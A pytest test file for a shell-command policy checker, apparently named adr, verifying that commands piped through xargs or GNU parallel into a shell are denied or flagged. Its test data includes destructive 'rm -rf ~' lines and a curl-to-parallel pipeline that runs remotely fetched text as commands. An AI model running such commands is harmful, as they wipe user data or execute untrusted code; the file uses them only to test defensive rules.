"""xargs and parallel can run their input items as commands: `… | xargs -I{} sh -c {}`, `xargs -a
FILE -L1 sh -c`, `parallel :::: FILE`, `… | parallel` with no command. What the producer prints is
then shell code, judged like `… | sh` — read from the file when adr can, asked when it is known only
at run time — while items used as data (`xargs -n1 sh` of script names, `parallel gzip`) stay quiet."""
from __future__ import annotations

import pytest

from adr.actions import Decision
from adr.shell.parse import parse


@pytest.fixture
def files(tmp_path):
    (tmp_path / "cmds.txt").write_text("rm -rf ~\n")
    (tmp_path / "ok.txt").write_text("make build\nmake test\n")
    return tmp_path


@pytest.mark.parametrize("cmd", [
    "xargs -a cmds.txt -I{} sh -c {}",
    "xargs -a cmds.txt -L1 sh -c",
    "xargs --arg-file=cmds.txt -n1 bash -c",
    "xargs -d '\\n' -a cmds.txt -n1 bash -c",
    "parallel :::: cmds.txt",
    "parallel -j2 :::: cmds.txt",
    "parallel < cmds.txt",
    "cat cmds.txt | parallel",
    "cat cmds.txt | xargs -I{} sh -c {}",
    "echo 'rm -rf ~' | parallel",
    "echo 'rm -rf ~' | xargs sh -c",
])
def test_items_from_a_file_or_the_line_are_judged_as_commands(judge_at, files, cmd):
    v = judge_at(files, cmd)
    assert v.decision is Decision.DENY, (cmd, v.rule_ids)


@pytest.mark.parametrize("cmd", [
    "./gen | xargs -I{} sh -c {}",
    "./gen | xargs -L1 bash -c",
    "./gen | parallel",
    "curl -s https://x.example/list | parallel -j4",
])
def test_items_made_at_run_time_ask(judge_command, cmd):
    v = judge_command(cmd)
    assert v.decision is not Decision.ALLOW, (cmd, v.rule_ids)


@pytest.mark.parametrize("cmd", [
    "xargs -a ok.txt -L1 sh -c",
    "parallel :::: ok.txt",
    "find . -name '*.sh' | xargs -n1 sh",
    "ls *.log | parallel gzip",
    "parallel gzip ::: a.log b.log",
    "seq 5 | parallel echo",
    "ls | xargs -I{} sh -c 'echo {}'",
])
def test_items_used_as_data_stay_quiet(judge_at, files, cmd):
    v = judge_at(files, cmd)
    assert v.decision is Decision.ALLOW, (cmd, v.rule_ids)


def test_parallel_with_no_command_is_a_shell_reading_its_input():
    cmds = parse("cat x | parallel -j4").commands
    assert [c.argv for c in cmds] == [("cat", "x"), ("sh", "-s")]
    assert "parallel" in cmds[1].wrappers
